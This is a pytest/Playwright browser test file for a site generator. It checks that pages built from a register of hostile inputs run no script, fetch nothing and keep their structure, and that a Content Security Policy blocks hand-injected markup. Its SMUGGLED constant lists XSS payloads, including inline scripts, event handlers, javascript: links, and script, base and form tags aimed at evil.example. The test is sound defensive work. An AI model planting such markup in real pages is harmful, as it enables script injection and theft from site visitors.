"""In a real browser the hostile register runs nothing, asks nobody else, and breaks no page.

The policy of a page has to stay silent: were it needed, markup would have got through. That it
would hold all the same is shown on a page into which markup is put by hand.
"""

from __future__ import annotations

import threading
from functools import partial
from http.server import ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest

from generator.site.kinds import KIND
from tests.browser.conftest import Quiet, listen
from tests.browser.pages import pages_of
from tests.safety.hostile import PAYLOADS

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, BrowserContext, Dialog, Page

    from tests.safety.conftest import Sites

# Anything that runs says so, in whatever frame, though no dialog should be shown.
WATCH = """window.alert = window.confirm = window.prompt = window.print = window.msgbox =
  what => { top.ran = true; console.error("ran: " + what); }"""
RAN = "window.ran === undefined"
LANDMARKS = """() => Object.fromEntries(["header", "nav", "main", "article", "footer", "h1"].map(
  name => [name, document.querySelectorAll(name).length]))"""
# What lies over everything, or has slipped out of the place where a case stands.
SLIPPED = """() => {
  const article = document.querySelector("main article");
  const all = document.querySelectorAll("body *");
  return [...all].filter(one => one.id === "content" && one !== article
      || getComputedStyle(one).position === "fixed" && article.contains(one)
      || one.matches("iframe, object, embed, base, style, img, frame, math")
      || one.tagName === "H1" && !article.contains(one)
      || [...one.attributes].some(said => /^on|^style$/.test(said.name))
         && article.contains(one)).map(one => one.outerHTML.slice(0, 200));
}"""
EVERYTHING = """() => {
  for (const one of document.querySelectorAll("details")) one.open = true;
  for (const one of document.querySelectorAll("main *")) {
    for (const name of ["mouseover", "pointerenter", "focus", "toggle"])
      one.dispatchEvent(new Event(name, {bubbles: true}));
  }
  window.scrollTo(0, document.body.scrollHeight);
}"""

# A case every so often: together they hold each payload many times over.
CASES = tuple(range(0, len(PAYLOADS), 13))
WRONG = (0, 7, 14, 21, 28)

SMUGGLED = """<script>top.alert("a script")</script>
<img src="x.png" onerror="alert('an event')">
<svg onload="alert('a picture')"></svg>
<iframe srcdoc="<script>top.alert('a frame')</script>"></iframe>
<iframe src="javascript:top.alert('an address')"></iframe>
<script src="https://evil.example/x.js"></script>
<img src="https://evil.example/x.gif">
<base href="https://evil.example/">
<form action="https://evil.example/" id="smuggled"></form>
<a href="javascript:alert('a link')" id="link">x</a>
<p id="styled" style="position:fixed">x</p>"""


@pytest.fixture(scope="module")
def origin(sites: Sites) -> Iterator[str]:
    with serving(sites.hostile) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def serving(folder: Path) -> ThreadingHTTPServer:
    return ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(folder)))


@pytest.fixture
def said() -> list[str]:
    """What the browser had to say against the pages of this test."""
    return []


@pytest.fixture
def context(browser: Browser, origin: str, said: list[str]) -> Iterator[BrowserContext]:
    with browser.new_context() as context:
        context.add_init_script(WATCH)
        listen(context, origin, said)
        yield context


def opened(context: BrowserContext, address: str, said: list[str]) -> Page:
    page = context.new_page()

    def shown(dialog: Dialog) -> None:
        said.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", shown)
    page.goto(address, wait_until="load")
    page.evaluate(EVERYTHING)
    page.wait_for_timeout(50)
    return page


def stays_whole(context: BrowserContext, address: str, said: list[str]) -> None:
    page = opened(context, address, said)
    found = page.evaluate(SLIPPED)
    assert not found, (address, found)
    assert page.evaluate(RAN), address
    counts = page.evaluate(LANDMARKS)
    assert counts["h1"] == counts["main"] == counts["article"] == 1, (address, counts)
    assert page.url.rstrip("/") == address.rstrip("/"), "the page went elsewhere"
    page.close()
    assert not said, (address, said)


@pytest.mark.parametrize("kind", KIND)
def test_the_fullest_page_of_each_kind_runs_nothing_and_stays_whole(
    context: BrowserContext, origin: str, said: list[str], sites: Sites, kind: str
) -> None:
    found = pages_of(sites.hostile).items()
    sizes = {one: path.stat().st_size for one, path in found if KIND[kind].has(one)}
    assert sizes, f"the hostile register has no {kind} page; give it what such a page needs"
    stays_whole(context, f"{origin}/{max(sizes, key=lambda one: sizes[one])}", said)


def test_neither_do_the_pages_of_cases(
    context: BrowserContext, origin: str, said: list[str], sites: Sites
) -> None:
    names = [f"case-{number}" for number in CASES] + [f"wrong-{number}" for number in WRONG]
    found = {path.parent.name: path.parent for path in sites.hostile.glob("cases/*/*/*/index.html")}
    for name in names:
        path = found[name].relative_to(sites.hostile).as_posix()
        stays_whole(context, f"{origin}/{path}/", said)


def test_markup_that_got_through_would_run_nothing_and_fetch_nothing_either(
    browser: Browser, sites: Sites, tmp_path: Path
) -> None:
    body = (sites.plain / "404.html").read_text(encoding="utf-8")
    assert body.count("</article>") == 1
    smuggled = body.replace("</article>", f"{SMUGGLED}</article>")
    (tmp_path / "index.html").write_text(smuggled, encoding="utf-8")
    (tmp_path / "404.html").write_text("", encoding="utf-8")
    said: list[str] = []
    with serving(tmp_path) as server, browser.new_context() as context:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        context.add_init_script(WATCH)
        asked: list[str] = []
        page = context.new_page()
        page.on("console", lambda message: said.append(message.text))
        page.on("response", lambda response: asked.append(response.url))
        page.goto(f"http://127.0.0.1:{server.server_port}/")
        page.locator("#link").click()
        page.locator("#smuggled").evaluate("form => form.requestSubmit()")
        page.wait_for_timeout(200)
        assert page.evaluate(RAN)
        assert page.evaluate("getComputedStyle(document.querySelector('#styled')).position") == (
            "static"
        )
        assert page.evaluate("document.baseURI").startswith("http://127.0.0.1")
        assert not [url for url in asked if "evil" in url]
        server.shutdown()
    assert not [text for text in said if text.startswith("ran:")]
    assert len([text for text in said if "Content Security Policy" in text]) > 8
